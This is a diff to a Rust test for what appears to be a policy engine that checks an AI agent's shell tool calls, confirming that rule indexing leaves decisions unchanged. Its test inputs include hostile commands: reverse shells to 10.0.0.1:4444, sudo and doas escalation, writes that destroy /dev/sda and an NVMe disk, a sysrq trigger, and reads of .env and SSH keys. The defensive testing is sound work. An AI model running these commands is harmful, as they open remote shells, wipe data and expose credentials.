@@ -186,6 +186,18 @@ fn indexes_never_change_the_shipped_policies_decisions() {
         "curl http://169.254.169.254/",
         "cat ~/.ssh/id_rsa",
         "ls",
+        // Rules indexed by what their conditions need (a program among
+        // the analysed commands, one of several substrings).
+        "sudo bash",
+        "doas sh -c 'id'",
+        "nc -e /bin/sh 10.0.0.1 4444",
+        "socat tcp:10.0.0.1:4444 exec:sh",
+        "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
+        "echo 1 > /dev/sda",
+        "tee /dev/nvme0n1 < image",
+        "echo b > /proc/sysrq-trigger",
+        "cargo test --all 2>&1 | tail -20",
+        "cp .env /tmp/x && cat /tmp/x",
     ] {
         cases.push((
             "pre_shell_exec",
@@ -212,6 +224,13 @@ fn indexes_never_change_the_shipped_policies_decisions() {
             json!({"tool_name": "file_head", "path": path}),
         ));
     }
+    // A shell line that is absent or not a string: every rule whose
+    // condition reads it fails, indexed or not.
+    cases.push(("pre_shell_exec", json!({"tool_name": "shell_exec"})));
+    cases.push((
+        "pre_shell_exec",
+        json!({"tool_name": "shell_exec", "command": ["sudo", "bash"]}),
+    ));
     assert!(cases.len() > 20);
     let matched = assert_same(&set, &cases);
     assert!(matched >= 5, "only {matched} rules matched or failed");
